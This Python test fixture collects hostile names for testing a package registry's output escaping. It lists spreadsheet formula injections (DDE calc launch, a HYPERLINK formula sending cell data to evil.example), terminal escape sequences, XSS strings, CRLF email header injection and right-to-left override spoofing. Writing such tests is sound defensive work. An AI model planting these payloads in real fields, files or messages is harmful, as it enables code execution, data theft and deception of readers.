"""Hostile names and addresses, shared by the tests of every output (DESIGN.md rule 7).

Each is a value a registry user could choose for a username, an org or a package: a
spreadsheet formula, terminal escapes, Rich markup, HTML, Markdown, a header injection,
prose that reads as more of the message around it.
"""

from __future__ import annotations

# A spreadsheet runs a cell starting with one of = + - @ TAB CR as a formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# ESC sequences that erase the line above and move up: they would hide a row.
TERMINAL = [
    "\x1b[2K\x1b[1Amallory",
    "eve\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "bell\x07del\x7fnul\x00c1\x9b",
    "two\nlines",
    "right\u202eto-left",
]
RICH_MARKUP = ["[bold]bold[/bold]", "[/]", "[link=https://evil.example]x[/link]", ":warning:"]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "https://evil.example/login",
    "www.evil.example",
    "**bold** _it_ `code` ~~gone~~ | cell",
    "# heading",
    "- list item",
    "1. ordered",
    "> quote",
    "a\\",
    "&lt;already&gt; &amp;",
]
HEADERS = [
    "sam\r\nBcc: victim@example.com",
    "sam\nX-Injected: yes",
    "\x1b[2Ksam",
    "sam\x00",
    # A right-to-left override, never closed: the rest of a line reads reversed.
    "acme\u202e\u2066moc.elgoog//:sptth ta nigol\u2069",
]
# Text that reads as more of the sentence a message puts a name in: other names of its
# list, a count, a clause of its own. Quoted (rollout.core.controls.quoted), each is one name.
PROSE = [
    "bo, di",
    "bo); 2 accounts newly listed (eve",
    "di and 40 more",
    "o'neil', 'x",
    "back\\slash\\' 'quote",
    "ada: developer to owner",
]
EVERYTHING = FORMULAS + TERMINAL + RICH_MARKUP + MARKUP + HEADERS + PROSE
